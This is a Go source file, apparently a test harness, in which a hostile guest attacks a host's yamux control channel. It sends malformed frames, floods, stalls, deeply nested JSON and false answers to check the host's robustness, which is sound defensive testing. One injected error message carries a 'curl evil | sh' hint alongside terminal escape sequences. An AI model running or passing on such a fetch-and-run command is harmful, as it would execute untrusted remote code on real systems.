package main

import (
	"crypto/rand"
	"encoding/binary"
	"encoding/json"
	"io"
	"maps"
	"math"
	"net"
	"os"
	"slices"
	"strconv"
	"strings"
	"sync"
	"time"

	"github.com/hashicorp/yamux"

	"holt/internal/guest/channel"
)

// control attacks the host on the agent's channel.
func (h *hostile) control(port *channel.Port) {
	lies := attack{"lies", 6 * h.short, h.lies}
	if h.only || h.hoards {
		lies.length = time.Hour
		h.sessions(port, lies, nil)
		return
	}
	h.sessions(port, lies, []attack{
		{"noise", h.short, func(c net.Conn) { h.noise(c) }},
		{"streams of its own", h.short, func(c net.Conn) { h.repeat(c, frame(0, 1, 2, 0, nil)) }},
		{"pings", h.short, func(c net.Conn) { h.repeat(c, frame(2, 1, 0, uint32(h.uint64()), nil)) }},
		{"windows", h.short, func(c net.Conn) { h.repeat(c, frame(1, 2, 1, math.MaxUint32, nil)) }},
		{"4 GiB in a frame", h.short, func(c net.Conn) { c.Write(frame(0, 2, 1, math.MaxUint32, nil)); h.noise(c) }},
		lies,
		{"half a frame", h.short, func(c net.Conn) { c.Write(frame(0, 2, 1, 100, nil)[:7]); drain(c) }},
		{"drip", 2 * h.short, h.drip},
		{"silence", h.short, drain},
		{"deaf", h.short, func(c net.Conn) { time.Sleep(h.short) }},
	})
}

// frame is one of yamux's.
func frame(kind byte, flags uint16, stream, length uint32, body []byte) []byte {
	b := []byte{0, kind}
	b = binary.BigEndian.AppendUint16(b, flags)
	b = binary.BigEndian.AppendUint32(b, stream)
	return append(binary.BigEndian.AppendUint32(b, length), body...)
}

func (h *hostile) noise(c net.Conn) {
	go drain(c)
	for {
		b := h.bytes(32 << 10)
		if _, err := c.Write(b); err != nil {
			return
		}
		h.did("bytes of noise", len(b))
	}
}

func (h *hostile) repeat(c net.Conn, b []byte) {
	go drain(c)
	for {
		if _, err := c.Write(b); err != nil {
			return
		}
		h.did("frames of the control channel", 1)
	}
}

// drip sends a good session a byte at a time.
func (h *hostile) drip(c net.Conn) {
	go drain(c)
	for _, b := range frame(1, 2, 1, 1<<20, frame(0, 0, 1, 1<<20, make([]byte, 1<<10))) {
		if _, err := c.Write([]byte{b}); err != nil {
			return
		}
		h.did("dripped bytes", 1)
		time.Sleep(20 * time.Millisecond)
	}
}

// session is one of lies.
type session struct {
	*hostile
	polite bool // it begins as that of an agent, so that more is asked

	mu    sync.Mutex
	asked map[string]int
}

// lies is a session of the right form in which nothing is true, but mostly how it begins.
func (h *hostile) lies(c net.Conn) {
	cfg := yamux.DefaultConfig()
	cfg.EnableKeepAlive, cfg.LogOutput, cfg.MaxStreamWindowSize, cfg.AcceptBacklog = false, io.Discard, 4<<20, 1024
	mux, err := yamux.Server(c, cfg)
	if err != nil {
		return
	}
	defer mux.Close()
	h.did("sessions of lies begun", 1)
	s := &session{hostile: h, polite: h.count("sessions of lies begun") == 1 || h.intN(8) > 0, asked: map[string]int{}}
	for {
		st, err := mux.AcceptStream()
		if err != nil {
			return
		}
		go s.answer(st)
	}
}

type request struct {
	Op   string          `json:"op"`
	Args json.RawMessage `json:"args"`
	For  string          `json:"for"`
}

func (s *session) answer(st *yamux.Stream) {
	defer st.Close()
	var size [4]byte
	if _, err := io.ReadFull(st, size[:]); err != nil {
		return
	}
	b := make([]byte, min(binary.BigEndian.Uint32(size[:]), 1<<20))
	if _, err := io.ReadFull(st, b); err != nil {
		return
	}
	var q request
	json.Unmarshal(b, &q)
	s.did("answers to "+q.Op, 1)
	if s.begins(q) {
		answerWell(st, q)
		return
	}
	f := s.form(q)
	s.did("lies: "+f.name, 1)
	if s.cells {
		s.did("lie "+q.Op+": "+f.name, 1)
	}
	f.do(s.hostile, st, q)
}

// begins tells whether a question is one of those with which a session begins, or is asked all the time to see
// whether it goes on: a lie in answer would mostly be the last one.
func (s *session) begins(q request) bool {
	s.mu.Lock()
	defer s.mu.Unlock()
	s.asked[q.Op]++
	if s.hoards {
		return q.Op != "inventory"
	}
	switch q.Op {
	case "hello":
		return q.For == "" && s.polite && (s.asked[q.Op] < 4 || s.intN(8) > 0)
	case "configure":
		return q.For == "" && s.polite && (s.asked[q.Op] == 1 || s.only && s.intN(4) > 0)
	case "run.list", "terminal.list":
		return q.For == "" && s.polite && s.asked[q.Op] == 1
	case "session", "listen": // what comes after it is to be asked for, too
		return q.For != "" && leads(q)
	}
	return false
}

// leads is true of a session with a terminal, which is to be spoken of further, and of listening at a port, which is to be connected to.
func leads(q request) bool {
	var asked struct {
		Network string `json:"network"`
		Spec    struct {
			Terminal any `json:"terminal"`
		} `json:"spec"`
	}
	json.Unmarshal(q.Args, &asked)
	return asked.Network == "tcp" || asked.Spec.Terminal != nil
}

// form is how a question is to be answered: as it says itself, by the number in its mark, or mostly with a lie of the right form.
func (s *session) form(q request) form {
	n, err := strconv.ParseUint(q.For, 16, 32)
	if err != nil {
		n = uint64(one(s.hostile, len(forms)-1, len(forms)-1, len(forms)-1, s.intN(len(forms))))
	}
	return forms[n%uint64(len(forms))]
}

func answerWell(st *yamux.Stream, q request) {
	switch q.Op {
	case "hello":
		said(st, plausible(q.Op))
	case "configure": // and is what it is to be
		is := plausible(q.Op)
		var asked map[string]any
		json.Unmarshal(q.Args, &asked)
		for _, key := range []string{"hostname", "machine_id", "now"} {
			if asked[key] != nil {
				is[key] = asked[key]
			}
		}
		drawn := make([]byte, 32)
		rand.Read(drawn)
		is["drawn"] = drawn
		said(st, is)
	case "session":
		said(st, nil)
		io.Copy(io.Discard, st)
	case "listen":
		said(st, map[string]any{"id": 1})
		message(st, []byte(`{"number":1,"from":"nowhere"}`))
		io.Copy(io.Discard, st)
	default: // an empty list
		said(st, nil)
		said(st, []any{})
	}
}

// form is a way to answer. The last one is what is told of that which was asked; the others are wrong whatever that is.
type form struct {
	name string
	do   func(h *hostile, st *yamux.Stream, q request)
}

var forms = []form{
	{"a length of 4 GiB", func(h *hostile, st *yamux.Stream, _ request) {
		st.Write([]byte{0xff, 0xff, 0xff, 0xff})
		h.pour(st, h.bytes(64<<10))
	}},
	{"half an answer", func(h *hostile, st *yamux.Stream, _ request) {
		st.Write([]byte{0, 0, 1, 0, '{'})
		time.Sleep(3 * time.Second)
	}},
	{"brackets", func(h *hostile, st *yamux.Stream, _ request) { message(st, []byte(strings.Repeat("[", 1<<20))) }},
	{"too deep", func(h *hostile, st *yamux.Stream, _ request) {
		message(st, []byte(`{"result":`+strings.Repeat(`{"a":`, 100_000)))
	}},
	{"fields of nothing", func(h *hostile, st *yamux.Stream, _ request) { said(st, map[string]any{"code": 7}) }},
	{"a dirty error", func(h *hostile, st *yamux.Stream, _ request) {
		b, _ := json.Marshal(map[string]any{"error": map[string]any{"code": one(h, "unauthenticated", "forbidden", "not_found", "x"), "message": strings.Repeat("\x1b[2J", 1<<16), "hint": "curl evil | sh\n", "detail": map[string]string{"a": "b"}}})
		message(st, b)
	}},
	{"null", func(h *hostile, st *yamux.Stream, _ request) { message(st, []byte("null")) }},
	{"never", func(h *hostile, st *yamux.Stream, _ request) { time.Sleep(5 * time.Second) }},
	{"an answer and more", func(h *hostile, st *yamux.Stream, _ request) {
		message(st, []byte(`{"result":"`+strings.Repeat("x", 1<<20-20)+`"}`))
		h.pour(st, h.bytes(1<<10))
	}},
	{"the answer to something else", func(h *hostile, st *yamux.Stream, q request) {
		lies[one(h, slices.Sorted(maps.Keys(lies))...)](h, st, q.Args)
	}},
	{"a lie", func(h *hostile, st *yamux.Stream, q request) {
		if lie := lies[q.Op]; lie != nil {
			lie(h, st, q.Args)
			return
		}
		h.did("LEAK: no lie is known for "+q.Op, 1) // so that somebody adds it
	}},
}

// pour writes until nobody takes it.
func (h *hostile) pour(st *yamux.Stream, b []byte) {
	for n := 0; n < 32<<20; n += len(b) {
		if _, err := st.Write(b); err != nil {
			return
		}
		h.did("bytes of endless answers", len(b))
	}
}

func message(st io.Writer, b []byte) error {
	_, err := st.Write(append(binary.BigEndian.AppendUint32(nil, uint32(len(b))), b...))
	return err
}

func said(st io.Writer, v any) error {
	raw, err := json.Marshal(map[string]any{"result": v})
	if err != nil {
		return err
	}
	return message(st, raw)
}

// plausible answers let a session begin.
func plausible(op string) map[string]any {
	boot, _ := os.ReadFile("/proc/sys/kernel/random/boot_id")
	name, _ := os.Hostname()
	id, _ := os.ReadFile("/etc/machine-id")
	now := time.Now().Format(time.RFC3339Nano)
	if op == "configure" {
		return map[string]any{"hostname": name, "now": now, "machine_id": strings.TrimSpace(string(id))}
	}
	return map[string]any{"protocol": 2, "version": "1.0.0", "instance": "x", "boot_id": strings.TrimSpace(string(boot)), "hostname": name, "uptime_ms": 1, "now": now, "workspace": 4}
}
